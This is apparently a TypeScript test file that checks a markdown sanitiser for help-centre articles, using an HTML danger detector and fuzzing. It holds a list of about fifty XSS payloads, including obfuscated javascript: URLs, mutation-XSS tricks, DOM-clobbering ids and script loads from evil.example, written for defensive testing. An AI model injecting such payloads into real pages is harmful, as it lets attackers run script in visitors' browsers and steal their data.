import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { describe, expect, test } from 'vitest';
import type { Node, PropertyValue } from '../../../src/parse/markdown/nodes.ts';
import { cleaned, sanitise } from '../../../src/parse/markdown/sanitise.ts';
import { article, pageOf } from './render.ts';

const parsers = ['satteri', 'remark'] as const;
const { document } = new JSDOM('').window;

/** What a browser that reads this HTML would run, load from elsewhere, or take for a part of the page around the article. */
function dangers(html: string): string[] {
  const box = document.createElement('template');
  box.innerHTML = html;
  const found: string[] = [];
  for (const each of box.content.querySelectorAll('*')) {
    const name = each.localName;
    if (
      /^(script|style|iframe|frame|frameset|object|embed|applet|base|meta|link|form|button|textarea|select|svg|math|template|slot|portal|noscript|title)$/.test(
        name,
      )
    ) {
      found.push(`<${name}>`);
    }
    if (name === 'input' && each.getAttribute('type') !== 'checkbox') found.push('<input>');
    for (const { name: key, value } of each.attributes) {
      if (
        /^(on|form|xlink|xmlns)|^(style|srcdoc|srcset|ping|background|action|autofocus|nonce|is)$/.test(key)
      ) {
        found.push(`${name} ${key}`);
      }
      if (/^(href|src|poster|cite|data)$/.test(key)) {
        // Browsers drop control characters and the white space at both ends before they look at the scheme.
        const address = value.replace(/[\u0000-\u0020\u007f-\u00a0\u200b]/g, '').toLowerCase();
        if (/^[a-z][a-z0-9+.-]*:/.test(address) && !/^(https?|mailto|tel):/.test(address))
          found.push(address);
      }
      if (key === 'id' && /^kb[A-Z]/.test(value) && !/^kb(Table|Note|Code)/.test(value))
        found.push(`id ${value}`);
      if (key === 'name') found.push(`${name} name`);
    }
  }
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"><source src="data:text/html,x"></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:x">x</a> <a href="data:text/html,<script>alert(1)</script>">x</a> <a href="blob:x">x</a>',
  '<a href="https://example.com/" onclick="alert(1)" style="position:fixed" ping="https://evil.example/">x</a>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div id="kbMain" name="location"><a id="kbSearch" name="cookie">x</a></div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)?>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<select><option><script>alert(1)</script></option></select>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x "title")',
  '![x](javascript:alert(1)) ![y](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x] and ![x]',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
  '> [!NOTE]\n> <script>alert(1)</script> [x](javascript:alert(1))',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)> {#kbMain onclick=alert(1)}',
  '![x](x.png){onerror=alert(1) style="x" srcset="https://evil.example/x 2x"}',
];

/** The same attack in every part of an article that a customer sees. */
const everywhere = (attack: string) => {
  const text = JSON.stringify(attack);
  return `---\ntitle: ${text}\nanswer: ${text}\nyoull_need: [{item: ${text}, note: ${text}}]\nbefore_you_start: [{check: ${text}, if_not: ${text}}]\npitfalls: [{symptom: ${text}, fix: ${text}}]\nescalate: {when: ${text}, to: ${text}, gather: [${text}]}\nvideo: {src: ${text}, captions: ${text}, transcript: ${text}, poster: ${text}, title: ${text}}\n---\n\n${attack}\n\n## You need\n\n- ${attack}\n`;
};

describe('nothing that an article holds can run, load or pretend', () => {
  test.each(attacks)('%s', (attack) => {
    for (const parser of parsers) {
      expect(dangers(pageOf(article(`Text.\n\n${attack}\n`, parser)))).toEqual([]);
      expect(dangers(pageOf(article(everywhere(attack), parser)))).toEqual([]);
    }
  });

  test('not even when attacks are put into one another', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '<b>',
        '</b>',
        '<p title="',
        '">',
        '<!--',
        '-->',
        '\n\n',
        '    ',
        '&lt;',
        '\\',
      ),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { minLength: 2, maxLength: 6 }),
        fc.constantFrom(...parsers),
        (pieces, parser) => {
          expect(dangers(pageOf(article(`Text.\n\n${pieces.join('')}\n`, parser)))).toEqual([]);
        },
      ),
      { numRuns: 300, seed: 20260615 },
    );
  });

  test('the search for dangers finds them', () => {
    for (const html of [
      '<script></script>',
      '<p onclick="x">',
      '<a href="java\tscript:x">',
      '<p style="x">',
      '<p id="kbMain">',
    ]) {
      expect(dangers(html)).toHaveLength(1);
    }
  });
});

describe('a tree is only kept as it is when hast-util-sanitize would change nothing', () => {
  const value = fc.oneof(
    fc.constantFrom<PropertyValue>(
      'checkbox',
      'region',
      'note-ref',
      'align-left',
      'hljs-x',
      'tasks',
      'en',
      'a.md',
      '#x',
      'a:b',
      'javascript:alert(1)',
      ' javascript:x',
      'https://a.example',
      'HTTPS://a.example',
      'data:text/html,x',
      'a?b:c',
      '',
      'x y',
      0,
      1,
      Number.NaN,
      true,
      false,
      null,
      undefined,
    ),
    fc.array(fc.constantFrom<string | number>('tasks', 'alert', 'alert-note', 'evil', 'table-scroll', 3), {
      maxLength: 3,
    }),
  );
  const properties = fc.dictionary(
    fc.constantFrom(
      'href',
      'src',
      'poster',
      'className',
      'role',
      'tabIndex',
      'id',
      'lang',
      'title',
      'hidden',
      'type',
      'disabled',
      'checked',
      'alt',
      'colSpan',
      'scope',
      'dataKbString',
      'onClick',
      'style',
      'ariaLabelledBy',
      'start',
      'value',
      'srcLang',
      'controls',
      '__proto__',
    ),
    value,
    { maxKeys: 3 },
  );
  const tagName = fc.constantFrom(
    'p',
    'a',
    'li',
    'ul',
    'ol',
    'img',
    'input',
    'table',
    'tbody',
    'tr',
    'td',
    'th',
    'video',
    'audio',
    'source',
    'track',
    'span',
    'div',
    'pre',
    'code',
    'script',
    'style',
    'svg',
    'iframe',
    'form',
    'b',
    'center',
    'constructor',
    'h1',
    'section',
  );
  const { node } = fc.letrec<{ node: Node }>((tie) => ({
    node: fc.oneof(
      { maxDepth: 4 },
      fc.string({ maxLength: 4 }).map((text): Node => ({ type: 'text', value: text })),
      fc.string({ maxLength: 4 }).map((text): Node => ({ type: 'comment', value: text })),
      fc
        .record({ tagName, properties, children: fc.array(tie('node'), { maxLength: 3 }) })
        .map((parts): Node => ({ type: 'element', ...parts })),
    ),
  }));

  test('random trees', () => {
    let kept = 0;
    fc.assert(
      fc.property(fc.array(node, { maxLength: 2 }), (tree) => {
        const given = sanitise(tree);
        expect(written(given)).toBe(written(cleaned(tree)));
        if (tree.length > 0 && given[0] === tree[0]) kept++;
      }),
      { numRuns: 5000 },
    );
    expect(kept).toBeGreaterThan(500);
  });

  /** As `JSON.stringify` sees it, without properties that have no value: they are not written. */
  function written(tree: readonly Node[]): string {
    return JSON.stringify(tree);
  }
});
